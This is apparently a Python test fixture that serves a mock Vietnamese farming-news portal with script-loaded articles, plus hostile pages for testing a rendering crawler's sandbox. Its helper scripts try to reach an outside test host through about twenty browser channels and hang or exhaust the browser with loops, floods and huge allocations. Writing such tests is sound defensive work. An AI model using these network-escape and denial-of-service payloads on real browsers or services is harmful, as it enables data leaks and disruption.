"""A portal whose pages are empty until their scripts have asked for what they show; and pages that mean harm."""

from __future__ import annotations

import gzip
import json
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from conftest import Reply

HTML = {"Content-Type": "text/html; charset=utf-8"}
JSON = {"Content-Type": "application/json"}
SCRIPT = """
async function data(path) { return (await fetch(path, {headers: {"X-Requested-With": "XMLHttpRequest"}})).json(); }
function add(html) { document.querySelector("#app").insertAdjacentHTML("beforeend", html); }
async function list() {
  for (const one of await data("/api/danh-sach.json"))
    add(`<div class="node-teaser"><h2><a href="${one.path}">${one.title}</a></h2></div>`);
}
async function article(number) {
  const one = await data(`/api/bai-${number}.json`);
  document.body.classList.add("node-type-article");
  add(`<h1 id="page-title">${one.title}</h1><div class="node node-full"><span property="dc:date" content="${one.date}">
    </span><div class="field-name-body"><div class="field-items"><div class="field-item">${
    one.text.map(line => `<p>${line}</p>`).join("")}</div></div></div></div>`);
}
"""


def shell(script: str, head: str = "", body: str = "") -> Reply:
    """What the server sends: no word of an article."""
    head = f'<head><meta charset="utf-8"><title>Cổng thử</title><script src="/js/app.js"></script>{head}</head>'
    body = f'<body><div id="app"></div>{body}<script>{script}</script></body>'
    return 200, HTML, f"<!DOCTYPE html><html>{head}{body}</html>".encode()


def text_of(number: int) -> list[str]:
    return [
        f"Bà con xã Hải Minh vừa gặt xong {number} mẫu lúa mùa, thóc phơi vàng khắp sân đình.",
        "Huyện hỗ trợ giống ngô đông cho các hộ ven sông Sò trước ngày 20 tháng 10.",
    ]


@dataclass
class ScriptedPortal:
    """A listing and articles that are empty until a script has asked for their data."""

    count: int
    more: dict[str, Reply] = field(default_factory=dict)  # pages besides, listed too
    texts: dict[int, list[str]] = field(default_factory=dict)
    changed: str = ""  # the article that the sitemap calls changed

    def __call__(self, path: str, headers: dict[str, str]) -> Reply:
        status, out, body = self.reply(path)
        if path == "/bai-2":
            out, body = {**out, "Content-Encoding": "gzip"}, gzip.compress(body, mtime=0)
        if "ETag" in out and headers.get("if-none-match") == out["ETag"]:
            return 304, out, b""
        return status, out, body

    def reply(self, path: str) -> Reply:
        number = int("".join(filter(str.isdigit, path)) or 0) if path.startswith(("/bai-", "/api/bai-")) else 0
        if 0 < number <= self.count:
            return shell(f"article({number})") if path.startswith("/bai-") else (200, JSON, self.data(number))
        fixed: dict[str, Reply] = {
            "/robots.txt": (200, {"Content-Type": "text/plain"}, b"User-agent: *\nDisallow: /api/cam\n"),
            "/": (*shell("list()")[:1], {**HTML, "ETag": '"khung"'}, shell("list()")[2]),
            "/js/app.js": (200, {"Content-Type": "text/javascript", "ETag": '"1"'}, SCRIPT.encode()),
            "/api/danh-sach.json": (200, JSON, self.listing()),
            "/sitemap.xml": (200, {"Content-Type": "application/xml"}, self.sitemap()),
            **self.more,
        }
        return fixed.get(path, (404, HTML, b"<h1>Kh\xc3\xb4ng t\xc3\xacm th\xe1\xba\xa5y trang</h1>"))

    def data(self, number: int) -> bytes:
        text = self.texts.get(number, text_of(number))
        one = {"title": f"Vụ mùa thứ {number}", "date": f"2024-05-{number:02}T08:00:00+07:00", "text": text}
        return json.dumps(one).encode()

    def listing(self) -> bytes:
        paths = [*self.more, *(f"/bai-{number}" for number in range(1, self.count + 1))]
        return json.dumps([{"path": path, "title": path} for path in paths]).encode()

    def sitemap(self) -> bytes:
        named = f"<url><loc>{self.changed}</loc><lastmod>2099-01-01</lastmod></url>" if self.changed else ""
        return f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{named}</urlset>'.encode()


def ways_out(there: str, udp: int) -> tuple[str, str, str]:
    """A script, a head and a body that try to reach ``there`` in every way we know of."""
    host, port = urlsplit(there).netloc, urlsplit(there).port
    worker = f'fetch("{there}worker").catch(() => 0); try {{ importScripts("{there}import") }} catch {{}}'
    worker += f'; new WebSocket("ws://{host}/worker-ws")'
    script = f"""
const tries = [
  () => fetch("{there}fetch").catch(() => 0), () => fetch("http://localhost:{port}/").catch(() => 0),
  () => fetch("{there}post", {{method: "POST", body: "x"}}).catch(() => 0), () => navigator.sendBeacon("{there}beacon"),
  () => new WebSocket("ws://{host}/ws"), () => new EventSource("{there}events"),
  () => import("{there}module.js").catch(() => 0),
  () => new Image().src = "{there}image", () => new Audio("{there}audio").play().catch(() => 0),
  () => new FontFace("x", "url({there}font)").load().catch(() => 0),
  () => navigator.serviceWorker.register("/sw.js").catch(() => 0),
  () => Object.assign(document.head.appendChild(document.createElement("script")), {{src: "{there}script.js"}}),
];
const code = URL.createObjectURL(new Blob([{json.dumps(worker)}], {{type: "text/javascript"}}));
for (const own of [window, document.body.appendChild(document.createElement("iframe")).contentWindow]) tries.push(
  () => new own.Worker(code), () => new own.SharedWorker(code), () => new own.WebSocket("ws://{host}/frame-ws"),
  () => new own.WebTransport("https://127.0.0.1:{udp}/"),
  () => {{ const call = new own.RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{udp}"}},
      {{urls: "turn:{host}?transport=tcp", username: "x", credential: "x"}}]}});
    call.createDataChannel("x"); call.createOffer().then(offer => call.setLocalDescription(offer)); }});
for (const attempt of tries) try {{ attempt() }} catch {{}}
"""
    rules = json.dumps({kind: [{"source": "list", "urls": [f"{there}{kind}"]}] for kind in ("prefetch", "prerender")})
    head = "".join(
        f'<link rel="{rel}" href="{there}{rel}">' for rel in ("preconnect", "prefetch", "stylesheet", "icon")
    )
    head += f'<script type="speculationrules">{rules}</script>'
    return script, head, f'<iframe src="{there}frame"></iframe><object data="{there}object"></object>'


def hostile_pages(there: str, udp: int) -> dict[str, Reply]:
    """Path → a page; those that show an article as well are called /xau-…, the others /treo-…"""
    out, head, body = ways_out(there, udp)
    away = f'<meta http-equiv="refresh" content="0;url={there}refresh">'
    form = f"const f = document.createElement('form'); f.method = 'post'; f.action = '{there}form';"
    return {
        "/xau-1": shell(f"article(1); {out}", head, body),
        "/xau-2": shell(
            f"article(2); setInterval(() => location = '{there}location', 50); {form} document.body.append(f);"
            f"f.submit(); setInterval(() => window.open('{there}popup'), 50)", away,
        ),
        "/xau-3": shell("article(3); setInterval(() => fetch('/api/gio.json?' + Math.random()).catch(() => 0), 20)"),
        "/xau-4": shell("article(4); const a = document.createElement('a'); a.href = '/tep.zip'; a.download = 'x';"
                        "document.body.append(a); a.click(); alert('Chào'); fetch('/api/cam').catch(() => 0)"),
        "/xau-5": shell("article(5); Object.defineProperty(Element.prototype, 'outerHTML', {get() { for (;;); }})"),
        "/treo-loop": shell("for (;;) {}"),
        "/treo-alert": shell("for (;;) alert('Chào')"),
        "/treo-requests": shell("for (let n = 0; n < 10000; n++) fetch('/api/rac-' + n).catch(() => 0)"),
        "/treo-memory": shell("const all = []; for (let n = 0; n < 60; n++) all.push(new Uint8Array(2e7).fill(7))"),
        "/treo-length": shell("for (let n = 0; n < 30; n++) document.body.append('x'.repeat(1e6))"),
        "/treo-sent": shell("article(1)", body="x" * 5_000_001),
    }  # fmt: skip
